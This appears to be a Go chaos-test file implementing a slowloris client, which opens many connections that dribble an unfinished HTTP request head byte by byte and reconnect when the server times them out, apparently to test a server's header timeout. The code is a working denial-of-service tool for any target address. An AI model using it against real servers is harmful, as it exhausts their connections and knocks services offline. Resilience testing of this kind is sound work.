//go:build chaos

package chaos

import (
	"math/rand/v2"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// slowloris holds many connections that each send a request head one byte
// at a time and never finish it. When the server closes one (its header
// timeout) it is opened again, as an attacker would.
type slowloris struct {
	stop       chan struct{}
	once       sync.Once
	wg         sync.WaitGroup
	open       atomic.Int64 // connections open now
	reconnects atomic.Int64 // connections the server ended and that were opened again
	dialErrors atomic.Int64
}

// slowHead is sent byte by byte, then slowMore over and over: the head
// never ends with its blank line.
const (
	slowHead = "GET / HTTP/1.1\r\nHost: chaos\r\nUser-Agent: slowloris\r\n"
	slowMore = "X-Slow: a\r\n"
)

func slowByte(i int) byte {
	if i < len(slowHead) {
		return slowHead[i]
	}
	return slowMore[(i-len(slowHead))%len(slowMore)]
}

// startSlowloris opens n slow connections to addr, each sending one byte
// every interval (the first bytes spread over one interval).
func startSlowloris(addr string, n int, interval time.Duration) *slowloris {
	s := &slowloris{stop: make(chan struct{})}
	for i := 0; i < n; i++ {
		s.wg.Add(1)
		go s.conn(addr, interval)
	}
	return s
}

func (s *slowloris) conn(addr string, interval time.Duration) {
	defer s.wg.Done()
	for first := true; ; first = false {
		select {
		case <-s.stop:
			return
		default:
		}
		c, err := net.DialTimeout("tcp", addr, 5*time.Second)
		if err != nil {
			s.dialErrors.Add(1)
			time.Sleep(100 * time.Millisecond)
			continue
		}
		if !first {
			s.reconnects.Add(1)
		}
		s.open.Add(1)
		s.dribble(c, interval)
		s.open.Add(-1)
	}
}

// dribble sends the head one byte per interval until the server answers or
// closes (any read returns) or the attack stops.
func (s *slowloris) dribble(c net.Conn, interval time.Duration) {
	ended := make(chan struct{})
	go func() {
		var b [512]byte
		c.Read(b[:]) // a 408, a 400, or EOF: the server is done with us
		close(ended)
	}()
	defer func() { c.Close(); <-ended }()
	timer := time.NewTimer(rand.N(interval))
	defer timer.Stop()
	for i := 0; ; i++ {
		select {
		case <-s.stop:
			return
		case <-ended:
			return
		case <-timer.C:
		}
		if _, err := c.Write([]byte{slowByte(i)}); err != nil {
			return
		}
		timer.Reset(interval)
	}
}

// finish closes every connection (again: a no-op).
func (s *slowloris) finish() {
	s.once.Do(func() {
		close(s.stop)
		s.wg.Wait()
	})
}
